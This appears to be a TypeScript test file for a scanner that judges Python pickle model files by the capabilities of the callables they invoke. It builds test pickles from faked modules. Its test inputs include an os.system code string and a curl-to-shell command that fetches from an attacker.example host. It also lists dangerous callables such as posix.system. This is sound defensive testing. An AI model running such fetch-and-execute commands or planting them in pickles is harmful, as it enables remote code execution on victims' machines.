/**
 * Verdicts by capability: callables are judged by what they can do (rules/model-scan/callables.yaml),
 * with the capability in the finding; an unlisted callable called with code, a shell command or a
 * URL is malicious. Pickles are written by CPython (pickle protocol 4) from fake modules.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { describe, it } from "node:test";
import { ValidationError } from "../../../core/index.js";
import { scanModelBytes } from "../index.js";
import { CAPABILITIES, callableRules, parseCallableRules, shippedCallableRulesFile } from "./callables.js";

/** Pickle `module.qualname(*args)` with CPython, the callable faked so nothing real is imported. */
function pickleCall(module: string, qualname: string, args: unknown[]): Uint8Array {
  const script = `
import json, pickle, sys, types
module, qualname, args = json.loads(sys.argv[1])
parts = module.split(".")
for i in range(1, len(parts) + 1):
    name = ".".join(parts[:i])
    if name not in sys.modules:
        m = types.ModuleType(name); sys.modules[name] = m
        if i > 1: setattr(sys.modules[".".join(parts[:i - 1])], parts[i - 1], m)
owner = sys.modules[module]
names = qualname.split(".")
for n in names[:-1]:
    cls = type(n, (), {"__module__": module}); cls.__qualname__ = n; setattr(owner, n, cls); owner = cls
def f(*a): pass
f.__module__, f.__qualname__, f.__name__ = module, qualname, names[-1]
setattr(owner, names[-1], f)
class Call:
    def __reduce__(self): return (f, tuple(args))
sys.stdout.buffer.write(pickle.dumps(Call(), protocol=4))
`;
  return new Uint8Array(execFileSync("python3", ["-c", script, JSON.stringify([module, qualname, args])]));
}

const PAYLOAD = "__import__('os').system('id')";

describe("capability-based verdicts", () => {
  const cases: [string, string, string][] = [
    ["torch.utils.bottleneck.__main__", "run_cprofile", "run-code"],
    ["torch.utils.collect_env", "run_and_read_all", "spawn-process"],
    ["torch.utils.data.datapipes.utils.decoder", "basichandlers", "load-nested"],
    ["torch.utils._config_module", "ConfigModule.load_config", "load-nested"],
    ["torch", "compile", "run-code"],
    ["_pyrepl.pager", "pipe_pager", "spawn-process"],
    ["logging", "FileHandler", "write-files"],
    ["_interpreters", "create", "run-code"],
    ["_xxsubinterpreters", "create", "run-code"],
    ["posix", "system", "spawn-process"],
  ];
  for (const [module, qualname, capability] of cases) {
    it(`judges ${module}.${qualname} malicious (${capability}), with the capability in the finding`, async () => {
      const r = await scanModelBytes(pickleCall(module, qualname, [PAYLOAD]), "model.pkl", { hash: false });
      assert.equal(r?.verdict, "malicious");
      const f = r?.findings.find((x) => x.rule === "pickle-dangerous-call");
      assert.equal(f?.capability, capability, JSON.stringify(r?.findings));
      assert.match(f?.detail ?? "", new RegExp(callableRules().capabilities[capability as "run-code"].says));
    });
  }

  it("escalates an unlisted callable called with code, a shell command or a URL", async () => {
    for (const arg of [PAYLOAD, "curl -s http://attacker.example/x | sh", "https://attacker.example/payload.bin"]) {
      const r = await scanModelBytes(pickleCall("mylib.tasks", "run_task", [arg]), "model.pkl", { hash: false });
      assert.equal(r?.verdict, "malicious", arg);
      assert.equal(r?.findings.find((f) => f.effect === "malicious")?.rule, "pickle-unknown-call-payload");
    }
  });

  it("keeps an unlisted callable with plain arguments suspicious", async () => {
    const r = await scanModelBytes(pickleCall("mylib.layers", "Block", ["encoder", 12]), "model.pkl", { hash: false });
    assert.equal(r?.verdict, "suspicious");
    assert.deepEqual(
      r?.findings.map((f) => f.rule),
      ["pickle-unknown-global"],
    );
  });
});

describe("callable rules as data", () => {
  it("loads the shipped file with a tier and a description for every capability", () => {
    const rules = callableRules();
    for (const c of CAPABILITIES) assert.ok(rules.capabilities[c]?.says, c);
    assert.ok(rules.byMatch.size > 150);
    assert.ok(rules.safe.has("torch._utils._rebuild_tensor_v2"));
  });

  it("documents every capability and its tier in docs/model-scan.md", () => {
    const doc = readFileSync(new URL("../../../../docs/model-scan.md", import.meta.url), "utf8");
    const rules = callableRules();
    const missing = CAPABILITIES.filter((c) => !doc.includes(`| \`${c}\` | ${rules.capabilities[c].tier} |`));
    assert.deepEqual(missing, []);
  });

  it("rejects a rules file with an unknown capability, naming the file", () => {
    const text = readFileSync(shippedCallableRulesFile(), "utf8").replace(
      "capability: run-code",
      "capability: teleport",
    );
    assert.throws(() => parseCallableRules(text, "my-callables.yaml"), ValidationError);
  });

  it("lets a capability's tier move a callable to suspicious", () => {
    const text = readFileSync(shippedCallableRulesFile(), "utf8").replace(
      /( {2}read-files:\n {4}tier: )malicious/,
      "$1suspicious",
    );
    const rules = parseCallableRules(text, "my-callables.yaml");
    assert.equal(rules.capabilities["read-files"].tier, "suspicious");
  });
});
